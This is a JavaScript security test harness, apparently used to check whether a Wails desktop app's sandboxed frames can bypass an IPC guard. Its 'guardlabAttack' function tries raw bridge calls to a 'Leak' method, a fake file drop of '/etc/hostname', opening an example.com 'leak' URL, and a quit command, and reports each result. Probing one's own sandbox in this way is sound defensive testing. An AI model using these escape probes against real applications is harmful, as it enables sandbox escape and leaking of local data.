// Shared by the bridge and the sandboxed inner frame: ask for the microphone; say what came of it.
async function guardlabMicrophone() {
  if (!navigator.mediaDevices) return 'no-mediaDevices';
  try {
    const st = await navigator.mediaDevices.getUserMedia({ audio: true });
    const kinds = st.getTracks().map(t => t.kind).join(',');
    st.getTracks().forEach(t => t.stop());
    return 'ok:' + kinds;
  } catch (e) { return 'err:' + e.name; }
}

// Shared by the bridge and the sandboxed inner frame: try every raw IPC.
function guardlabAttack(who, base, sendQuit) {
  const r = (k, v) => fetch(base + '/r?who=' + who + '&k=' + k + '&v=' + encodeURIComponent(v)).catch(() => {});
  const mh = window.webkit && window.webkit.messageHandlers;
  const h = mh && mh.external;
  r('handler', h ? 'present' : 'absent');
  r('wailsinvoke', typeof window.WailsInvoke);
  r('flag', String(window.__voiceboxGuard));
  try {
    window.top.WailsInvoke('C' + JSON.stringify({ name: 'main.App.Leak', args: [who + '-top'], callbackID: who + 't' }));
    r('top-invoke', 'called');
  } catch (e) { r('top-invoke', 'blocked:' + e.name); }
  try {
    window.top.document.dispatchEvent(new CustomEvent('voicebox-guard-ipc', { detail: 'C' + JSON.stringify({ name: 'main.App.Leak', args: [who + '-event'], callbackID: who + 'e' }) }));
    r('top-event', 'dispatched');
  } catch (e) { r('top-event', 'blocked:' + e.name); }
  const post = (m) => { if (!h) return 'no-handler'; try { h.postMessage(m); return 'posted'; } catch (e) { return 'err:' + e.name; } };
  r('post-call', post('C' + JSON.stringify({ name: 'main.App.Leak', args: [who], callbackID: who + 'c' })));
  r('post-event', post('EE' + JSON.stringify({ name: 'leak-event', data: [who] })));
  r('post-drop', post('DD:1:1:/etc/hostname'));
  r('post-open', post('BO:https://example.com/leak-' + who));
  if (sendQuit) {
    setTimeout(() => { r('post-quit', post('Q')); }, 1000);
  }
  setTimeout(() => r('done', '1'), 1200);
}
